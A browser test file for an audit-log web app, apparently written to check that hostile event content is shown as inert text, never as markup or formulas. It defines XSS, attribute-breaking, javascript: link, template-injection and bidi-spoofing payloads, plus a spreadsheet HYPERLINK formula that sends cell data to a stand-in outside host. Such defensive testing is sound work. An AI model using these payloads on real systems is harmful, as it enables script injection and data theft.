// Events whose content means harm: mark-up, scripts, quotes that would end an attribute, template language, formulas of
// spreadsheets, marks that turn the direction of writing, strings as long as an event may be. On every page that shows
// events they are text and nothing else: no element comes of them, nothing runs, nothing is asked of another origin, and
// the page keeps its shape.
import { accessible, ask, BASE, expect, fits, open, record, SHOTS, signIn, TOKEN, WIDTHS } from './browser.mjs';

const MARKUP = '<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script><style>*{display:none}</style></script></td></table><base href="https://elsewhere.example/">';
const ATTRIBUTE = '" autofocus onfocus="globalThis.ran=1" style="position:fixed;inset:0" x="\' onmouseover=\'globalThis.ran=1';
const LINK = 'javascript:globalThis.ran=1//';
const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"click")';
// Turned right to left, and never turned back.
const TURNED = '\u202Egpj.exe\u2067\u202E\u200F\u2066';
const TEMPLATE = '{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}';
const LONG = 'W'.repeat(8000);
const RUN = Date.now();

const KINDS = { markup: MARKUP, attribute: ATTRIBUTE, link: LINK, formula: FORMULA, turned: TURNED, template: TEMPLATE };

// Fields that a source fills in as it likes, all with the same poison, cut to what each may hold.
function event(kind, text) {
  const short = text.slice(0, 500);
  return {
    id: `hostile-${RUN}-${kind}`,
    action: 'model.called',
    category: 'model_usage',
    outcome: 'failure',
    reason: short.slice(0, 120),
    severity: 'critical',
    source: 'api',
    instance: short.slice(0, 120),
    actor: { type: 'user', id: `${short.slice(0, 480)}${kind}`, name: short, email: short },
    session_id: short.slice(0, 120),
    org: { role: short, department: short, groups: [short, short] },
    client: { ip: '203.0.113.66', forwarded_for: [short], user_agent: text.slice(0, 4000) },
    target: { type: short.slice(0, 120), id: short, name: short },
    targets: [{ type: short.slice(0, 120), id: short, name: short }],
    model: { id: short, provider: short },
    usage: { input_tokens: 900_000_000, output_tokens: 1, cost_usd: 90_000 },
    message: text.slice(0, 8000),
    changes: [{ field: short, before: text.slice(0, 4000), after: { [short]: [text.slice(0, 4000)] } }],
    http: { method: short.slice(0, 120), path: text.slice(0, 4000), status: 500, request_id: short.slice(0, 120) },
    details: { [short]: text, nested: [{ deep: text }] },
  };
}

// Pages whose address is hostile, not what they show: at one width.
const ASKED = /asked|query|find|wanted|usage-(markup|attribute|link|formula|turned|template)/;

export const tests = { hostile };

async function hostile() {
  const events = Object.entries(KINDS).map(([kind, text]) => event(kind, text));
  events.push({ ...event('long', LONG), actor: { type: 'user', id: 'long', name: LONG.slice(0, 500) }, details: { text: 'x'.repeat(65_536) } });
  await record(events);
  const indices = {};
  for (const { id } of events) indices[id.split('-').at(-1)] = await indexOf(id);
  const prepared = await prepare();
  try {
    await walked(pagesWith(indices));
    await shown(indices);
    await arriving();
    await formulas();
  } finally {
    await prepared.undo();
  }
}

// What is recorded can be found a moment later.
async function indexOf(id) {
  for (let turn = 0; turn < 300; turn += 1) {
    const [index] = (await (await ask(`/?limit=1&q=id:${id}`)).json()).indices;
    if (index !== undefined) return index;
    await new Promise((done) => { setTimeout(done, 100); });
  }
  throw new Error(`${id} cannot be found`);
}

const query = (parameters) => new URLSearchParams(parameters).toString();

// What readers name themselves: an export, a saved view, words in the address.
async function prepare() {
  const send = (method, path, body) => fetch(`${BASE}/api/v1/auditlog${path}`, {
    method, headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' }, body: body && JSON.stringify(body),
  });
  const job = async (parameters) => send('POST', `/exports?${query({ format: 'csv', ...parameters })}`);
  const [first, second] = [await job({ user: MARKUP, name: "=1+1' onclick='globalThis.ran=1 &amp; {{7+7}}" }), await job({ q: `"${TURNED}"` })];
  expect((await job({ name: TURNED })).status === 400, 'hostile: a file name that turns its ending round is refused');
  const view = await send('POST', '/views', { name: `${RUN % 1000}${MARKUP}`.slice(0, 60), query: query({ q: `"${LINK}"` }) });
  expect(first.ok && second.ok && view.ok, 'hostile: exports and a view are named so');
  const [begun, turned] = [await first.json(), await second.json()];
  const viewId = (await view.json()).view.id;
  return {
    undo: async () => {
      for (const one of [begun, turned]) await send('DELETE', `/exports/${one.export.id}`);
      await send('DELETE', `/views/${viewId}`);
    },
  };
}

function pagesWith(indices) {
  const of = `q=id:hostile-${RUN}-*`;
  const pages = [
    ['hostile-events', `/audit?${of}&columns=who,what,outcome,target,client,model,tokens,cost,session`],
    ...Object.entries(indices).map(([kind, index]) => [`hostile-event-${kind}`, `/audit/events/${index}`]),
    ['hostile-people', '/audit/users?sort=tokens'],
    ['hostile-people-tried', '/audit/users?list=tried'],
    ['hostile-usage-department', '/audit/usage?by=department'],
    ['hostile-usage-user', '/audit/usage?by=user&show=cost'],
    ['hostile-usage-model', '/audit/usage?by=model'],
    ['hostile-looks', '/audit/looks'],
    ['hostile-looks-exports', '/audit/looks?kind=exports'],
    ['hostile-exports', '/audit/exports'],
    ['hostile-integrity', '/audit/integrity'],
    ['hostile-health', '/audit/health'],
  ];
  for (const [kind, text] of Object.entries(KINDS)) {
    pages.push([`hostile-asked-${kind}`, `/audit?${query({ user: text, department: text, model: text, target: text, range: text, columns: text, view: text })}`]);
    pages.push([`hostile-query-${kind}`, `/audit?${query({ q: text })}`]);
    pages.push([`hostile-find-${kind}`, `/audit/users?${query({ find: text, sort: text, range: '30d' })}`]);
    pages.push([`hostile-person-${kind}`, `/audit/users/${encodeURIComponent(`${text.slice(0, 480)}${kind}`)}`]);
    pages.push([`hostile-usage-${kind}`, `/audit/usage?${query({ by: text, q: text })}`]);
    pages.push([`hostile-wanted-${kind}`, `/audit/exports/new?${query({ user: text, name: text })}`]);
  }
  return pages;
}

// What poison would have left behind, had any of it been taken for more than text.
async function harm(page) {
  return page.evaluate((base) => {
    const found = globalThis.ran === undefined ? [] : ['something ran'];
    for (const element of document.querySelectorAll('*')) {
      for (const { name } of element.attributes) if (name.startsWith('on') || name === 'style' || name === 'autofocus') found.push(`${element.localName} ${name}`);
    }
    for (const element of document.querySelectorAll('img, iframe, object, embed, base, style, main script, main link, main meta')) found.push(element.outerHTML.slice(0, 100));
    for (const element of document.querySelectorAll('[href], [action], [src]')) {
      const address = new URL(element.getAttribute('href') ?? element.getAttribute('action') ?? element.getAttribute('src'), location.href);
      if (address.origin !== base) found.push(`leads to ${address.href.slice(0, 100)}`);
    }
    if (document.querySelectorAll('main').length !== 1) found.push('the page came apart');
    return [...new Set(found)];
  }, BASE);
}

// The letters of `text` stand where they were written, and what turns them does not turn its neighbours: whatever holds
// one of the marks is isolated from what is beside it.
async function unturned(page) {
  return page.evaluate(() => {
    const loose = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
      if (!/[\u202A-\u202E\u2066-\u2069]/.test(walker.currentNode.data)) continue;
      const own = walker.currentNode.parentElement;
      if (!own.checkVisibility()) continue;
      const { unicodeBidi, display } = getComputedStyle(own);
      const isAlone = own.closest('svg') !== null || (display !== 'inline' && own.childNodes.length === 1);
      if (!/isolate|plaintext/.test(unicodeBidi) && !isAlone) loose.push(own.outerHTML.slice(0, 160));
    }
    return loose;
  });
}

async function walked(pages) {
  for (const [width, height] of WIDTHS) {
    for (const colorScheme of width === 1280 ? ['light', 'dark'] : ['light']) {
      const page = await open({ viewport: { width, height }, colorScheme });
      await signIn(page);
      const some = width === 390 ? pages : pages.filter(([name]) => !ASKED.test(name));
      for (const [name, address] of some) {
        const answer = await page.goto(address);
        await page.waitForLoadState('networkidle');
        const [found, loose] = [await harm(page), await unturned(page)];
        const isPage = answer.status() < 500 && await page.locator('main h1').count() === 1;
        if (found.length || loose.length || !isPage) expect(false, [`${name} ${width}: ${answer.status()}`, ...found, ...loose].join('\n     '));
        await fits(page, `${name} at ${width}`);
        await page.screenshot({ path: `${SHOTS}/${name}-${width}-${colorScheme}.png` });
        if (width === 390 && !ASKED.test(name)) await accessible(page, `${name} ${width}`);
      }
      expect(true, `hostile: ${some.length} pages are walked at ${width}, ${colorScheme}`);
      await page.context().close();
    }
  }
}

// Nothing is dropped or altered either: the text is there, letter for letter.
async function shown(indices) {
  const page = await open();
  await signIn(page);
  for (const [kind, text] of Object.entries(KINDS)) {
    await page.goto(`/audit?q=id:hostile-${RUN}-${kind}`);
    expect((await page.locator('#events .who bdi').first().textContent()) === text.slice(0, 500), `hostile: ${kind} is shown as it is in the list`);
    await page.locator('#events td.time a').click();
    await page.waitForSelector('dialog.drawer[open] article');
    expect((await page.locator('dialog.drawer h1').textContent()).trim() === text.trim() && (await harm(page)).length === 0, `hostile: ${kind} is shown as it is in the drawer`);
    await page.goto(`/audit/events/${indices[kind]}`);
    const raw = JSON.parse(await page.locator('pre.raw').textContent());
    expect(raw.message === text, `hostile: ${kind} is the same in its JSON`);
  }
  // Completion offers what is recorded.
  await page.goto('/audit');
  await page.waitForLoadState('networkidle');
  await page.fill('#q', '');
  await page.locator('#q').pressSequentially('actor_name:<img');
  await page.waitForTimeout(500);
  expect((await harm(page)).length === 0, 'hostile: completion is text');
  await page.context().close();
}

async function arriving() {
  const page = await open();
  await signIn(page);
  await page.waitForLoadState('networkidle');
  await page.click('#live');
  await page.waitForTimeout(1000);
  await record(Object.entries(KINDS).map(([kind, text]) => ({ ...event(kind, text), id: `hostile-${RUN}-${kind}-live` })));
  await page.waitForFunction((least) => document.querySelectorAll('#tail-rows li').length >= least, Object.keys(KINDS).length);
  expect((await harm(page)).length === 0, 'hostile: live events are text');
  expect((await unturned(page)).length === 0, 'hostile: live events turn nothing beside them');
  await fits(page, 'hostile live events');
  await page.screenshot({ path: `${SHOTS}/hostile-live.png` });
  await page.context().close();
}

// No cell of a CSV is a formula to a spreadsheet, in the export of events and in the tables of people and usage.
async function formulas() {
  const page = await open();
  await signIn(page);
  await page.goto(`/audit/usage?${query({ by: 'department', q: `id:hostile-${RUN}-formula` })}`);
  const usage = await page.locator('a:has-text("CSV")').last().getAttribute('href');
  for (const path of [`/api/v1/auditlog?format=csv&q=id:hostile-${RUN}-formula`, '/api/v1/auditlog/people?format=csv', usage]) {
    const text = await page.evaluate(async (path) => (await fetch(path)).text(), path);
    const cells = text.match(/(?<=^|,|\n)("(?:[^"]|"")*"|[^,\r\n]*)/g) ?? [];
    const bad = cells.filter((cell) => /^"?[=+@\t\r]/.test(cell) || /^"?-\D/.test(cell));
    expect(text.includes('HYPERLINK') && bad.length === 0, `hostile: ${path.split('?')[0]} as CSV has no formula ${bad.slice(0, 3)}`);
  }
  await page.context().close();
}
